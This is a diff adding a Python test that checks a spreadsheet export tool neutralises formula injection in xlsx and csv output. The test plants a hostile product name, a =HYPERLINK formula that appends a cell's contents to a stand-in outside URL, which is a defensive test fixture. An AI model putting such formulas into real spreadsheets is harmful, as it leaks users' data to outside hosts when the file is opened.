@@ -182,3 +182,31 @@ def test_a_sale_dated_in_year_9999_is_an_anomaly_of_its_row_and_every_job_goes_o
     assert code == 0 and "Vente 2026-12 — Vente de décembre : commandes ouvertes" in out, err
     anomalies = store.read(["Anomalies"])["Anomalies"]
     assert ["", "erreur", "Ventes", len(sales) + 1, "Clôture"] in [r[:5] for r in anomalies]
+
+
+def test_plan_out_writes_a_product_named_like_a_formula_as_text_in_xlsx_and_csv(folder, capsys):
+    import csv
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    run(capsys, "init", "--demo", *NOW)
+    store = LocalWorkbookStore(folder / "paniers.xlsx")
+    products = store.read(["Produits"])["Produits"]
+    hostile = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
+    code = products[1][0]
+    products[1][2] = hostile  # its Nom, typed by a producer or pasted from an email
+    from sync.stores import Changes
+    store.write(Changes(replace={"Produits": products}))
+    assert run(capsys, "plan", "--like", "2026-11", "--out", "plan.xlsx", *NOW)[0] == 0
+    assert run(capsys, "plan", "--like", "2026-11", "--out", "plan.csv", *NOW)[0] == 0
+    sheet = load_workbook(folder / "plan.xlsx").active
+    [cell] = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK") and cell.quotePrefix
+    with zipfile.ZipFile(folder / "plan.xlsx") as package:
+        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")  # no formula anywhere in the file
+    rows = list(csv.reader(io.StringIO((folder / "plan.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
+    [row] = [r for r in rows if r[1] == code]
+    assert row[2].startswith("'=HYPERLINK")
+    assert not any(field[:1] in "=+-@\t\r" for r in rows for field in r if field)
